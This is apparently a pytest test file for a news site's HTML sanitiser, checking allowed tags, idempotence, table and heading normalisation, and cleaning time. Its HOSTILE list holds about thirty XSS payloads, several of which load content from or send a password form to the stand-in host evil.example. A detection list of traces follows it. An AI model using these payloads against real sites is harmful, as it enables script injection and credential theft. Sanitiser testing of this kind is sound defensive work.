"""What the sanitiser lets through, and what never comes out of it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from news.text.sanitising import TAGS, clean_html
from news.text.tidying import tidied
from tests.factories.news import ArticleFactory, PageFactory
from tests.growth import grows_in_step

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/a.png' onload=alert(1)>",
    "<img src='//evil.example/media/a.png'>",
    "<img src='/media/../admin/logout'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b <script>alert(1)</script>0",
    "<<script>alert(1)//<</script>",
    "<p>x<!-- <script>alert(1)</script> --></p>",
    "<h1 onmouseover=alert(1)>x</h1>",
]
#: Tags that say something by an attribute; each stands beside its bare kind, in which it says nothing.
SPEAKING = {
    "a": '<a href="ref:article/9">',
    "img": '<img data-picture="4" alt="">',
    "span": '<span data-figure="price">',
    "figure": '<figure data-chart="price">',
    "sup": '<sup data-footnote="note">',
    "th": '<th scope="row">',
    "ol": '<ol start="3">',
}
#: `div` and `button` are not allowed: what was around something goes, and what was inside is read otherwise.
OPENING = [*(f"<{name}>" for name in sorted(TAGS)), *SPEAKING.values(), "<div>", "<button>", "<h1>", "<b>"]
CLOSING = [f"</{name}>" for name in sorted(TAGS)]
words = st.sampled_from(["words", "字", " ", "&nbsp;", "<br>", "\n", "&lt;p&gt;", ""])


def within_tags(inside):
    """Return texts of some others, each within the tags of an element."""
    return st.builds(
        lambda tag, parts: f"{tag}{''.join(parts)}</{tag[1:].rstrip('>').split()[0]}>",
        st.sampled_from(OPENING),
        st.lists(inside, max_size=3),
    )


nested = st.recursive(words, within_tags, max_leaves=12)
loose = st.lists(st.sampled_from(OPENING + CLOSING) | words, max_size=14).map("".join)
TRACES = ("<script", "alert(1)>", "onerror", "onload", "onclick", "ontoggle", "onmouseover", "javascript:", "vbscript:",
          "data:", "evil.example", "style=", "<iframe", "<svg", "<form", "<input", "<!--", "..")  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_survives(html):
    clean = clean_html(html).lower().replace("&lt;", "").replace("&gt;", "")
    assert not [trace for trace in TRACES if trace in clean]


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_what_is_hostile_twice_changes_nothing(html):
    assert clean_html(clean_html(html)) == clean_html(html)


@given(nested | loose)
def test_cleaning_twice_changes_nothing(html):
    clean = clean_html(html)
    assert clean_html(clean) == clean
    assert tidied(clean) == clean


def test_a_footnote_in_a_footnote_leaves_one():
    html = '<p>x<sup data-footnote="a">1<sup data-footnote="b">2</sup><sup>3</sup></sup>y</p>'
    assert clean_html(html) == '<p>x<sup data-footnote="a">*</sup>y</p>'


def test_words_of_spans_in_spans_stay():
    html = '<p><span>a<span data-figure="price">b<span>c</span></span></span></p>'
    assert clean_html(html) == '<p>a<span data-figure="price">bc</span></p>'


def test_a_heading_is_left_in_no_heading():
    assert clean_html("<h2>A<div><h3>B</h3></div></h2>") == "<h2>A</h2><h3>B</h3>"


def test_a_table_in_a_cell_gets_headers_of_its_own():
    inner = "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"
    html = f"<table><tr><td>{inner}</td></tr><tr><th>b</th></tr></table>"
    assert clean_html(html) == (
        '<table><tbody><tr><td><table><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><td>1</td></tr></tbody></table></td></tr><tr><th scope="row">b</th></tr></tbody></table>'
    )


@pytest.mark.parametrize(
    "html",
    [
        "<p>Prices rose by <strong>0.26%</strong>, <em>slightly</em>.</p><h2>Outlook</h2><ul><li>a</li></ul>",
        "<blockquote><p>Said the buyer.</p></blockquote>",
        '<figure><img src="/media/pictures/ab/cd.webp" alt="Cloth"><figcaption>Cloth</figcaption></figure>',
        '<table><thead><tr><th scope="col">Class</th></tr></thead><tbody><tr><td>106.30</td></tr></tbody></table>',
        '<p><a href="/index/price/" rel="noopener">here</a></p>',
        "<p>涤纶面料，价格小幅上涨。</p>",
    ],
)
def test_ordinary_text_stays_as_it_is(html):
    assert clean_html(html) == html


def test_headings_begin_below_the_title():
    assert clean_html("<h1>A</h1><H1>B</H1><h6>C</h6>") == "<h2>A</h2><h2>B</h2><h4>C</h4>"


def test_the_meaning_of_old_tags_is_kept():
    assert clean_html("<p><b>a</b> <i>b</i></p>") == "<p><strong>a</strong> <em>b</em></p>"


def test_a_table_from_the_editor_gets_head_and_scopes():
    typed = (
        "<table><tbody><tr><th><p>Class</p></th><th><p>Value</p></th></tr>"
        "<tr><th><p>Grey</p></th><td><p>1</p></td></tr></tbody></table>"
    )
    assert clean_html(typed) == (
        '<table><thead><tr><th scope="col">Class</th><th scope="col">Value</th></tr></thead>'
        '<tbody><tr><th scope="row">Grey</th><td>1</td></tr></tbody></table>'
    )


@pytest.mark.parametrize("html", ["", None, "<p></p>", "<p> </p><p><br></p>", "  \n"])
def test_nothing_written_is_the_empty_text(html):
    assert clean_html(html) == ""


@pytest.mark.parametrize(("piece", "number"), [(" ", 200_000), ("<p> ", 20_000)])
def test_huge_input_is_cleaned_in_a_time_that_grows_with_its_length(piece, number):
    def cleaning(number):
        html = f"<p>a{piece * number}x</p>"
        return lambda: clean_html(html)

    assert grows_in_step(cleaning, number)


@pytest.mark.long
@pytest.mark.parametrize(
    "piece", ["<ul><li><p>", "<h2><span>", "<table><tr><th>", '<figure data-chart="price"><figcaption>']
)
def test_deep_input_is_tidied_in_a_time_that_grows_with_its_depth(piece):
    """Reading it costs the library's parser more: for each element HTML's rules look through those that are open."""

    def tidying(number):
        html = clean_html(f"<p>a{piece * number}x</p>")
        return lambda: tidied(html)

    assert grows_in_step(tidying, 5_000)


@pytest.mark.django_db
def test_whatever_is_saved_is_clean():
    article = ArticleFactory(body_en="<p>Hi<script>x</script></p>", body_zh_hans="<p onclick=x>好</p>")
    page = PageFactory(slug="terms", body_en="<h1>Terms</h1>")
    assert (article.body_en, article.body_zh_hans, page.body_en) == (
        "<p>Hi</p>",
        "<p>好</p>",
        "<h2>Terms</h2>",
    )
